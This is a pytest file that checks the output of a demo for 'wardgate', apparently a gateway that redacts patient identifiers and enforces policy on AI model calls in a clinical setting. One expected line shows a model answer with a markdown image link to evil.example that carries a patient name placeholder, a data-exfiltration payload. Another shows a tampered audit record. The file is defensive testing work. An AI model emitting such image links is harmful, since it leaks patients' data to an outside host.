"""`wardgate demo`, as a newcomer runs it: its own process, no terminal, no colour."""

import os
import subprocess
import sys

import pytest

LONGEST_S = 120


def demo(**environment: str) -> subprocess.CompletedProcess[str]:
    command = (sys.executable, "-m", "extproc.cli.app", "demo")
    inherited = {name: value for name, value in os.environ.items() if not name.startswith("WARDGATE_")}
    return subprocess.run(
        command,
        env={**inherited, "COLUMNS": "100", "PYTHONUTF8": "1", **environment},
        capture_output=True,
        text=True,
        timeout=LONGEST_S,
        check=False,
    )


@pytest.fixture(scope="module")
def walked() -> subprocess.CompletedProcess[str]:
    return demo()


def test_every_step_comes_out_as_it_says(walked: subprocess.CompletedProcess[str]) -> None:
    assert walked.returncode == 0, walked.stdout + walked.stderr
    assert "All 7 steps came out as they say" in walked.stdout
    assert "✗" not in walked.stdout


@pytest.mark.parametrize(
    "line",
    [
        "clinician sent    Draft a letter to Maria Gonzalez",
        "provider received Draft a letter to [NAME_1], MRN [MRN_1]",
        "clinician read    Noted: Maria Gonzalez, 00482913",
        "provider received [NAME], MRN [MRN]: atrial fibrillation.",
        "model answered    ![](https://evil.example/?q=[NAME_1])",
        "reason            provider_without_baa",
        "citation          45 CFR 164.502(e), 164.504(e)",
        "provider received 0 bytes",
        "somebody read     401 unauthenticated",
        "step 5            dr.lee: deny, no provider",
        '"verdict":"deny" became "verdict":"allow"',
        "the checkpoint's Merkle root is not",
    ],
)
def test_a_newcomer_reads_what_happened(walked: subprocess.CompletedProcess[str], line: str) -> None:
    assert line in walked.stdout


def test_it_says_which_engine_decided() -> None:
    ended = demo(WARDGATE_POLICY__ENGINE="embedded")
    assert ended.returncode == 0, ended.stdout + ended.stderr
    assert "Decisions are by the embedded engine" in ended.stdout


def test_a_step_that_comes_out_otherwise_ends_it_with_1_and_what_differed() -> None:
    """The policy is asked for a model that its provider does not have: denied, for another reason than the one said."""
    ended = demo(**{"WARDGATE_PROVIDERS__DEMO-NOBAA__MODELS": '["another"]'})
    assert ended.returncode == 1
    assert "✗ the reason has its citation" in ended.stdout
    assert "but there is: [{'id': 'model_not_listed'" in ended.stdout
    assert "1 of 7 steps did not come out as they say." in ended.stdout


def test_a_stack_that_does_not_start_says_why_and_what_to_do() -> None:
    ended = demo(WARDGATE_AUDIT__KEY_FILE="/nowhere/audit.key")
    assert ended.returncode == 1
    assert "The stack ended: sidecar-0 ended by itself (exit code 2)" in ended.stdout
    assert "sidecar-0   | wardgate: /nowhere/audit.key: cannot be read" in ended.stdout
    assert "wardgate check --config" in ended.stdout
